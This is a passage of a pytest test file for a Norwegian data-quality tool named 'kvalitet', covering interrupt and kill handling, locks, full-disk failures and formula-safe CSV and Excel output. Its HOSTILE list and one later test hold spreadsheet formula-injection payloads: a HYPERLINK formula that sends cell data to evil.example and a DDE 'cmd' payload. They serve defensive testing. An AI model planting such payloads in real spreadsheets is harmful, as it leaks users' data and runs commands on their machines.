    failure to write the output; the output itself, its lock and that folder are."""
    out = Path("/d/report")
    denied = [OSError(errno.EACCES, "Permission denied", name) for name in ("/d/raw/x.csv", "/d/raw")]
    assert [outputs.write_error(out, err) for err in denied] == [None, None]
    for name in ("/d/report", "/d/.report.kvalitet-lock", "/d", "/d/report/index.html"):
        failed = outputs.write_error(out, OSError(errno.EACCES, "Permission denied", name))
        assert str(failed).startswith("could not write /d/report"), name


@pytest.mark.slow
def test_report_on_a_full_disk_changes_nothing(tmp_path):
    if os.geteuid() != 0:
        pytest.skip("mounting a small file system needs root")
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=24m", "tmpfs", str(disk)], capture_output=True).returncode:
        pytest.skip("this machine does not allow mounting a tmpfs")
    try:
        out = disk / "report"
        assert kvalitet("report", "--no-static", "--out", out).returncode == 0
        fill(disk)
        before = tree_snapshot(disk)
        # --force: nothing changed, so without it the build would rightly stop at "up to date"
        proc = kvalitet("report", "--no-static", "--force", "--out", out)
        assert proc.returncode == 1
        assert f"kvalitet report: could not write {out}" in proc.stderr, proc.stderr
        assert "no space left (free space and run again)" + NOTHING_CHANGED in proc.stderr
        assert "Traceback" not in proc.stderr
        assert tree_snapshot(disk) == before
    finally:
        subprocess.run(["umount", "-l", str(disk)], capture_output=True)


# --- formula-safe outputs ------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Klikk")',
    "+47 cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\tTab",
    "\rCR",
]


def test_formula_safe_prefixes_text_and_leaves_numbers():
    frame = pd.DataFrame(
        {
            "name": HOSTILE + ["Datateknologi"],
            "text number": ["-1.5", "+3", "-", "2", "x", None, "-0,5"],
            "change": [-1.5, 2.0, -3.0, 0.0, 1.0, None, -0.25],
            "n": pd.array([-1, 2, 3, 4, 5, None, 7], dtype="Int64"),
            "category": pd.Categorical(["=1", "ok", "=1", "ok", "ok", "ok", "ok"]),
            "=header": ["a"] * 7,
        }
    )
    safe = outputs.formula_safe(frame)
    assert safe["name"].tolist() == ["'" + h for h in HOSTILE] + ["Datateknologi"]
    # text that is exactly a number is a number, not a formula; a lone "-" is text a spreadsheet keeps
    assert safe["text number"].tolist()[:5] == ["-1.5", "+3", "'-", "2", "x"]
    assert safe["text number"].tolist()[6] == "-0,5"
    pd.testing.assert_series_equal(safe["change"], frame["change"])
    pd.testing.assert_series_equal(safe["n"], frame["n"])
    assert safe["category"].tolist()[0] == "'=1"
    assert list(safe.columns)[-1] == "'=header"
    assert frame["name"].tolist()[0] == HOSTILE[0], "the caller's frame is not changed"


def test_workbook_cells_are_text_never_formulas(tmp_path):
    import openpyxl
    from openpyxl.utils.escape import unescape

    from analysis.report import tables as t

    flags = pd.DataFrame(
        {
            "unit_name": HOSTILE,
            "share_women": [0.1, 0.2, 0.3, 0.4, 0.5, 0.6],
            "change": [-1.0, -2.5, 3.0, 0.0, -0.1, 1.0],
            "url": ["http://x.example"] * 6,
        }
    )
    # the writer every workbook of the product goes through (report, flags/survey --out x.xlsx)
    path = t.write_workbook(
        [("flags", t.people_table(flags, t.generic_columns(flags), "nb"))], tmp_path / "k.xlsx", "nb"
    )
    book = openpyxl.load_workbook(path)  # not read-only, not data-only: formulas would show as such
    ws = book["flags"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # (xlsxwriter stores a carriage return as Excel's _x000D_ escape; Excel shows it as such a character)
    assert [unescape(ws.cell(row=r, column=1).value) for r in range(2, 8)] == HOSTILE
    assert [ws.cell(row=r, column=3).value for r in range(2, 8)] == [-1.0, -2.5, 3.0, 0.0, -0.1, 1.0]
    assert all(ws.cell(row=r, column=3).data_type == "n" for r in range(2, 8))
    assert not ws["D2"].hyperlink


def test_csv_outputs_of_the_commands_are_formula_safe(tmp_path, capsys):
    import csv

    table = tmp_path / "opptak.csv"
    lines = ["Studieprogram;2017;2018"] + [f"{name.replace(';', ',')};30 %;45 %" for name in HOSTILE[:4]]
    table.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "flags.csv"
    assert main(["flags", str(table), "--out", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))  # Norwegian Excel's separator
    # a CSV for people: Norwegian headers, decimal comma (label col_unit_name "Enhet", "År")
    names = {r["Enhet"] for r in rows}
    assert names == {"'" + n.replace(";", ",") for n in HOSTILE[:4]}
    for row in rows:
        for value in row.values():
            assert not value.startswith(outputs.FORMULA_START) or outputs._PLAIN_NUMBER.match(value), value
        int(row["År"])  # numbers stay numbers
        float(row["Andel kvinner (%)"].replace(",", "."))


def test_sigterm_stops_a_run_cleanly(tmp_path, raws, snapshots):
    """``kill PID`` (SIGTERM) is handled like Ctrl-C: the earlier output stays, and the run
    removes its temporary folder and lock itself (no need to wait for the next start)."""
    from analysis.synth import generate_respondents, write_respondents

    raw = tmp_path / "raw"
    shutil.copytree(raws["B"], raw)
    write_respondents(generate_respondents(300_000, 40, 200, 2, seed=5), raw / "respondents.parquet")
    out = tmp_path / "validated"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    proc = _start_ingest(raw, out)
    deadline = time.monotonic() + 120
    while not (tmp_path / ".validated.kvalitet-lock").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    err = proc.communicate(timeout=120)[1]
    assert proc.returncode == 128 + signal.SIGTERM, err  # (143, as shells report a kill)
    assert "interrupted; nothing was replaced" in err and "Traceback" not in err
    assert tree_snapshot(out) == snapshots["A"]
    assert leftovers(tmp_path, "validated") == []


def _start_ingest(raw: Path, out: Path) -> subprocess.Popen:
    """``python -m analysis ingest`` started in the background, its stderr kept, to be killed."""
    return subprocess.Popen(
        [python(), "-m", "analysis", "ingest", "--data", str(raw), "--out", str(out)],
        cwd=paths.ROOT,
        env=dict(os.environ, PYTHONIOENCODING="utf-8"),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )


def _catches_sigterm(pid: int) -> bool:
    """Whether the process has a handler for SIGTERM (its ``SigCgt`` mask in /proc)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("SigCgt:"):
            return bool(int(line.split()[1], 16) >> (signal.SIGTERM - 1) & 1)
    return False


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads the signal mask from /proc")
def test_sigterm_during_the_first_imports_ends_in_the_message_and_143(tmp_path, raws, snapshots):
    """A ``kill`` in the first second of a run, while pandas, pyarrow and pandera are still being
    imported, gives the same end as one later: the one line, exit 143, no traceback, the earlier
    output intact. Before, such kills ended in a traceback (an import before the handler's
    ``try``), or by SIGINT (status -2) after the message, about one in eight, because under
    ``python -m`` an interrupt caught in code CPython had compiled from a string (a dataclass
    being built) still ends the interpreter by SIGINT. The kill is sent at several moments
    after the handler is in place, which is what the process's signal mask shows."""
    out = tmp_path / "validated"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    judged = 0
    for delay in (0.0, 0.05, 0.1, 0.2, 0.3, 0.5):
        proc = _start_ingest(raws["B"], out)
        deadline = time.monotonic() + 60
        while proc.poll() is None and not _catches_sigterm(proc.pid) and time.monotonic() < deadline:
            time.sleep(0.002)
        time.sleep(delay)
        proc.send_signal(signal.SIGTERM)
        err = proc.communicate(timeout=120)[1]
        if proc.returncode in (0, -signal.SIGTERM) and tree_snapshot(out) == snapshots["B"]:
            # the run had finished (a fast machine) and the kill came after it or during the
            # interpreter's exit: nothing to judge at this moment; start again from A
            assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
            continue
        judged += 1
        assert (proc.returncode, err) == (143, "kvalitet: interrupted; nothing was replaced\n"), delay
        assert tree_snapshot(out) == snapshots["A"]
        assert leftovers(tmp_path, "validated") == []
    assert judged >= 3, "the runs finished before the kills: the moments need to be earlier"


def test_python_m_exits_130_after_an_interrupt_caught_in_string_compiled_code(tmp_path):
    """Under ``python -m``, CPython ends the process by SIGINT (status -2) once a
    KeyboardInterrupt has been raised in code it compiled from a string, even if the program
    caught it and exits 130 (dataclasses and namedtuples are built that way, so a Ctrl-C or
    ``kill`` during an import can land there: the failed CI run). The interrupt is put in that
    place here on purpose, through a ``sitecustomize`` that Python loads at start."""
    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(
        "import analysis.cli\n"
        "def _main(argv):\n"
        "    exec('raise KeyboardInterrupt')  # compiled from a string, as dataclasses build methods\n"
        "analysis.cli._main = _main\n",
        encoding="utf-8",
    )
    env = dict(os.environ, PYTHONIOENCODING="utf-8", PYTHONPATH=os.pathsep.join([str(hook), str(paths.ROOT)]))
    done = kvalitet("ingest", "--data", tmp_path / "none", env=env)
    assert (done.returncode, done.stderr) == (130, "kvalitet: interrupted; nothing was replaced\n")


def test_output_closed_by_its_reader_stops_quietly_with_141_not_an_unexpected_error(tmp_path):
    """``kvalitet validate data/raw | head -1``: the reader goes after one line. validate
    reported "unexpected error: BrokenPipeError …" and wrote a log to send to the maintainers
    (a bug report for what is no bug) and exited 1 (a helper's bad-input hunt, 2026-12-03). It
    now stops as a program the closed pipe stops does: exit 128 + SIGPIPE, nothing said, no log."""
    state = tmp_path / "state"
    env = dict(os.environ, PYTHONIOENCODING="utf-8", KVALITET_STATE_DIR=str(state))
    proc = subprocess.Popen(
        [PYTHON, "-m", "analysis", "validate", str(paths.ROOT / "data" / "raw")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
        cwd=paths.ROOT,
    )
    assert proc.stdout is not None and proc.stderr is not None
    first = proc.stdout.readline()
    proc.stdout.close()  # the reader goes: every later write meets a closed pipe
    err = proc.stderr.read().decode("utf-8")
    assert proc.wait(timeout=120) == 141
    assert "reads —" in first.decode("utf-8")
    assert "unexpected error" not in err and "Traceback" not in err, err
    assert not list(state.glob("error-*.log"))


def test_an_interrupt_wrapped_by_class_creation_counts_as_an_interrupt():
    """Python 3.11 wraps an exception from ``__set_name__`` in a RuntimeError; a Ctrl-C that lands
    there (a schema class being built during an import) is still an interrupt, not an
    unexpected error with a log file."""
    from analysis.cli import EXIT_INTERRUPTED
    from analysis.errors import caused_by_interrupt

    class Field:
        def __set_name__(self, owner, name):
            raise KeyboardInterrupt

    try:
        type("Schema", (), {"field": Field()})
    except BaseException as err:  # noqa: BLE001 - the wrapped interrupt is the subject
        wrapped = err
    assert caused_by_interrupt(wrapped)
    assert not caused_by_interrupt(RuntimeError("a real failure"))
    try:  # a failure while an interrupt was being handled is that failure, not the interrupt
        try:
            raise KeyboardInterrupt
        except KeyboardInterrupt:
            raise OSError("cleanup failed") from None
    except OSError as err:
        assert err.__context__ is not None and not caused_by_interrupt(err)
    assert EXIT_INTERRUPTED == 128 + signal.SIGINT


def _interrupt_while_a_schema_class_is_built(path):
    """What a SIGTERM does when it lands in pandera's ``FieldInfo.__set_name__`` while a schema
    module is imported during the first read (seen once under load: the kill 0.5 s after the
    handler was in place ended in 'unexpected error: RuntimeError: Error calling __set_name__
    …', exit 1): Python 3.11 raises a RuntimeError caused by the interrupt."""

    class Field:
        def __set_name__(self, owner, name):
            raise KeyboardInterrupt

    type("FacultyNames", (), {"institution_code": Field()})


@pytest.mark.parametrize("command", ["ingest", "validate"])
def test_an_interrupt_wrapped_during_the_first_read_ends_in_the_message_and_130(
    command, tmp_path, raws, snapshots, capsys, monkeypatch
):
    """The wrapped interrupt reaches neither the command's 'unexpected error' (ingest) nor the
    file's problem list (validate, which reads file by file): the run ends as interrupted, and
    ingest's earlier output is intact."""
    from analysis.readers import detect

    out = tmp_path / "validated"
    assert main(["ingest", "--data", str(raws["A"]), "--out", str(out)]) == 0
    capsys.readouterr()
    monkeypatch.setattr(detect, "detect_kind", _interrupt_while_a_schema_class_is_built)
    args = ["--data", str(raws["B"]), "--out", str(out)] if command == "ingest" else [str(raws["B"] / SEED)]
    assert main([command, *args]) == 130
    assert capsys.readouterr().err == "kvalitet: interrupted; nothing was replaced\n"
    assert tree_snapshot(out) == snapshots["A"]
    assert leftovers(tmp_path, "validated") == []


def test_an_interrupt_wrapped_while_a_header_is_sniffed_is_not_taken_for_an_unreadable_file(tmp_path, monkeypatch):
    """Telling whether a file is one of kvalitet's own tables imports pyarrow or openpyxl on
    first use; a wrapped interrupt there was taken for 'cannot be read' (None) and the kill was
    ignored. It is passed on."""
    from analysis.readers import detect

    monkeypatch.setattr(detect, "_first_bytes", lambda path, n: _interrupt_while_a_schema_class_is_built(path))
    with pytest.raises(RuntimeError) as raised:
        detect.table_headers(tmp_path / "table.csv")
    assert isinstance(raised.value.__cause__, KeyboardInterrupt)


@pytest.mark.slow
def test_a_report_from_hostile_names_has_no_formula_anywhere(tmp_path):
    """A programme named like a formula goes through the whole report: the workbook has no
    formula cell and no CSV cell starts a formula."""
    import csv

    import openpyxl

    raw = tmp_path / "raw"
    shutil.copytree(paths.RAW, raw)
    table = raw / SEED
    table.chmod(0o644)
    evil = '=HYPERLINK("http://evil.example/?d="&B2,"Kybernetikk")'
    text = table.read_text(encoding="utf-8").replace("Kybernetikk;", '"' + evil.replace('"', '""') + '";')
    table.write_text(text.replace("Datateknologi;", "@SUM(1+1)*cmd;"), encoding="utf-8")
    out = tmp_path / "report"
    proc = kvalitet("report", "--no-static", "--data", raw, "--out", out)
    assert proc.returncode == 0, proc.stderr
    book = openpyxl.load_workbook(out / "kvalitetsmelding.xlsx")
    values = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert evil in {c.value for c in values}, "the name is in the workbook, as text"
    seen = False
    for path in (out / "tables").glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh, delimiter=";"):  # CSV for Norwegian Excel
                for cell in row:
                    assert not cell.startswith(outputs.FORMULA_START) or outputs._PLAIN_NUMBER.match(cell), (path, cell)
                    seen = seen or cell == "'" + evil
    assert seen, "the name is in the CSV tables, prefixed"


@pytest.mark.parametrize("kind", ["folder", "files"])
def test_a_ctrl_c_while_an_output_is_opened_leaves_no_lock(tmp_path, monkeypatch, kind):
    """Ctrl-C (or a kill, handled alike) that lands while an output is being opened — after
    the lock is taken, before the run has begun — removes the lock and the private folder too."""

    def interrupted(target):
        raise KeyboardInterrupt

    monkeypatch.setattr(outputs, "_recover", interrupted)
    target = tmp_path / ("validated" if kind == "folder" else "flags.parquet")
    opened = outputs.OutputFolder(target, "validated data") if kind == "folder" else outputs.OutputFiles([target])
    with pytest.raises(KeyboardInterrupt):
        opened.open()
    assert leftovers(tmp_path, target.name) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == []


class _Stopped(Exception):
    """What the test's SIGTERM handler raises (the CLI's raises KeyboardInterrupt)."""


def test_a_kill_while_the_lock_is_taken_waits_until_it_is_recorded(tmp_path, monkeypatch):
    """A SIGTERM that arrives between creating the lock file and recording it as this run's is
    delivered only once it is recorded — in a process with other threads too (numpy's, a
    kernel's), where a thread's signal mask would not hold it back — so the caller's close
    removes the file."""
    import fcntl
    import threading

    other = threading.Event()
    waiting = threading.Thread(target=other.wait, daemon=True)  # the process has other threads
    waiting.start()
    real_flock = fcntl.flock
    lock = outputs._Lock(tmp_path / "validated")

    def flock(fd, operation):
        os.kill(os.getpid(), signal.SIGTERM)  # in the middle of taking the lock
        time.sleep(0.05)  # time enough for a handler to run here, were it not held back
        return real_flock(fd, operation)

    def stopped(signum, frame):
        raise _Stopped(lock.fd)

    previous = signal.signal(signal.SIGTERM, stopped)
    monkeypatch.setattr(outputs.fcntl, "flock", flock)
    try:
        with pytest.raises(_Stopped) as err:
            lock.acquire()
    finally:
        signal.signal(signal.SIGTERM, previous)
        other.set()
    assert err.value.args[0] is not None, "the signal came before the lock was recorded"
    lock.release()
    assert list(tmp_path.iterdir()) == []


# --- tables written at once (two threads) ------------------------------------------------------


def _endless(made: list[int], interrupt_at: int | None = None):
    """Batches for as long as they are taken (each a millisecond apart), counted in ``made``;
    at batch ``interrupt_at``, a Ctrl-C (SIGINT to the main thread, as a terminal sends it)."""
    import threading

    import pyarrow as pa

    for k in range(10_000):
        made.append(k)
        if k == interrupt_at:
            signal.pthread_kill(threading.main_thread().ident, signal.SIGINT)
        time.sleep(0.001)
        yield pa.table({"k": [k]})


def test_tables_written_at_once_stop_together_when_one_fails(tmp_path):
    """Tables given in batches are written two at a time, each by its own thread. When one
    writer fails (a full disk), the other stops before its next batch, that failure is the one
    raised, and nothing is written."""
    import pyarrow as pa

    from analysis.commands.metric_output import write_tables

    def failing():
        yield pa.table({"x": [1, 2]})
        raise OSError(28, "No space left on device")

    made: list[int] = []
    with pytest.raises(outputs.OutputError) as err:
        write_tables({tmp_path / "a.parquet": _endless(made), tmp_path / "b.parquet": failing()})
    assert "no space left" in str(err.value) and str(err.value).endswith(NOTHING_CHANGED), err.value
    assert len(made) < 5_000  # stopped, not written to its end (10 s)
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_a_ctrl_c_while_tables_are_written_at_once_stops_both(tmp_path):
    """A Ctrl-C reaches the main thread, which waits for the two writers: both stop before
    their next batch (not after their whole table), and nothing is written."""
    from analysis.commands.metric_output import write_tables

    a: list[int] = []
    b: list[int] = []
    # Python's own Ctrl-C handler, and SIGINT not blocked, for the test's run: in two fresh-clone
    # CI runs (the whole suite, two workers) the interrupt never came here, though the test
    # passes alone and after its own file; a runner may also ignore SIGINT (mutmut's workers do)
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    blocked = signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGINT})
    try:
        with pytest.raises(KeyboardInterrupt):
            write_tables({tmp_path / "a.parquet": _endless(a, interrupt_at=20), tmp_path / "b.parquet": _endless(b)})
    finally:
        signal.pthread_sigmask(signal.SIG_SETMASK, blocked)
        signal.signal(signal.SIGINT, previous)
    assert 20 <= len(a) < 5_000 and len(b) < 5_000
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_tables_written_at_once_are_written_whole(tmp_path):
    """The same tables written two at a time give each file its own batches, in order."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from analysis.commands.metric_output import write_tables

    def batches(name: str, n: int):
        for k in range(n):
            yield pa.table({name: pa.array(range(k * 100, (k + 1) * 100), pa.int64())})

    targets = {tmp_path / f"{name}.parquet": (name, n) for name, n in (("a", 30), ("b", 7), ("c", 1))}
    rows = write_tables({out: batches(*spec) for out, spec in targets.items()})
    for out, (name, n) in targets.items():
        assert rows[out] == 100 * n
        assert pq.read_table(out).column(name).to_pylist() == list(range(100 * n))


def test_a_kill_while_the_survey_tables_are_written_keeps_the_earlier_ones(tmp_path):
    """``kill`` while ``kvalitet survey`` writes its three tables (two threads at once): exit
    143 within about a batch, the one line, the earlier tables byte for byte, nothing left
    beside them. Batches are small and each is written a second late here (through a
    ``sitecustomize``), so that the kill lands while both writers are at work however busy the
    machine is."""
    from analysis.synth import generate_respondents, write_respondents

    hook = tmp_path / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(
        "import time\n"
        "import analysis.commands.metric_output as m\n"
        "import analysis.metrics.survey_tables as t\n"
        "t.BATCH_ROWS = 1000\n"
        "write = m._write_parquet_batches\n"
        "def slow(batches, path, stop=None):\n"
        "    def each():\n"
        "        for batch in batches:\n"
        "            time.sleep(1.0)\n"
        "            yield batch\n"
        "    return write(each(), path, stop)\n"
        "m._write_parquet_batches = slow\n",
        encoding="utf-8",
    )
    earlier, respondents = tmp_path / "earlier.parquet", tmp_path / "sb.parquet"
    write_respondents(generate_respondents(3_000, 20, 30, 2, seed=1), earlier)
    write_respondents(generate_respondents(20_000, 40, 400, 3, seed=2), respondents)
    out = tmp_path / "out"
    out.mkdir()
    assert main(["survey", str(earlier), "--out", str(out / "survey.parquet")]) == 0
    before = tree_snapshot(out)
    env = dict(os.environ, PYTHONIOENCODING="utf-8", PYTHONPATH=os.pathsep.join([str(hook), str(paths.ROOT)]))
    proc = subprocess.Popen(
        [python(), "-m", "analysis", "survey", str(respondents), "--out", str(out / "survey.parquet")],
        cwd=paths.ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 120
    while not leftovers(out, "survey.parquet") and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.01)
    time.sleep(0.3)  # both writers at work (each waits 1 s before each of its ~20 batches)
    proc.send_signal(signal.SIGTERM)
    killed = time.monotonic()
    err = proc.communicate(timeout=120)[1]
    # the writers stop before their next batch: ~1 s, not the ~20 s of their whole tables
    assert time.monotonic() - killed < 8, "the writers went on after the kill"
    assert proc.returncode == 143, err
    assert "interrupted; nothing was replaced" in err and "Traceback" not in err
    assert tree_snapshot(out) == before
    assert leftovers(out, "survey.parquet") == []


@pytest.mark.parametrize("kind", ["folder", "files"])
def test_an_interrupt_just_after_the_private_folder_is_made_leaves_nothing(tmp_path, monkeypatch, kind):
    """A Ctrl-C or ``kill`` that lands the moment the run's private folder has been made (but
    before the run has gone on) still finds the folder in the run's hands: it goes, with the
    lock. (With ``mkdtemp`` the folder existed before the run knew its name, and a ``kill`` at
    that moment left it behind; CI saw it once.)"""
    real = os.mkdir

    def mkdir_then_interrupt(path, *args, **kwargs):
        real(path, *args, **kwargs)
        if outputs._TMP in os.path.basename(os.fspath(path)):
            raise KeyboardInterrupt

    monkeypatch.setattr(os, "mkdir", mkdir_then_interrupt)
    if kind == "folder":
        opened = outputs.OutputFolder(tmp_path / "out", "report")
    else:
        opened = outputs.OutputFiles([tmp_path / "out.parquet"])
    with pytest.raises(KeyboardInterrupt):
        opened.open()
    monkeypatch.undo()
    name = "out" if kind == "folder" else "out.parquet"
    assert leftovers(tmp_path, name) == []
    assert list(tmp_path.iterdir()) == []


def test_a_private_folder_name_already_taken_is_never_used_nor_removed(tmp_path, monkeypatch):
    """Another draw when the random name of the run's folder is taken (as ``mkdtemp`` does);
    the folder that had it is not the run's, so it stays as it was."""
    names = iter(["aaaaaaaa", "bbbbbbbb"])
    taken = tmp_path / f".out{outputs._TMP}aaaaaaaa"

    def draw(nbytes):
        name = next(names)
        if name == "aaaaaaaa":  # someone else's folder appears under the first name drawn
            taken.mkdir()
            (taken / "theirs.txt").write_text("not yours", encoding="utf-8")
        return name

    monkeypatch.setattr(outputs.secrets, "token_hex", draw)
    folder = outputs.OutputFolder(tmp_path / "out", "report").open()
    try:
        assert folder.path.parent.name == f".out{outputs._TMP}bbbbbbbb"
    finally:
        folder.close()
    assert (taken / "theirs.txt").read_text(encoding="utf-8") == "not yours"
    assert not (tmp_path / f".out{outputs._TMP}bbbbbbbb").exists()


def test_an_out_path_inside_a_file_says_so_not_that_a_folder_is_missing(tmp_path, capsys):
    """A bad-input hunt: --out keep.csv/f.csv (keep.csv a file) said "the folder … does not
    exist", which was not the reason. A missing folder still says that."""
    from analysis import paths
    from analysis.cli import main

    data = paths.RAW / "seed_hovedopptak_andel_kvinner_2007_2018.csv"
    a_file = tmp_path / "keep.csv"
    a_file.write_text("mine\n", encoding="utf-8")
    assert main(["flags", str(data), "--out", str(a_file / "sub" / "f.csv")]) == 2
    assert f"{a_file} is a file, not a folder" in capsys.readouterr().err
    assert a_file.read_text(encoding="utf-8") == "mine\n"
    assert main(["flags", str(data), "--out", str(tmp_path / "nope" / "f.csv")]) == 2
    assert f"the folder {tmp_path / 'nope'} does not exist" in capsys.readouterr().err
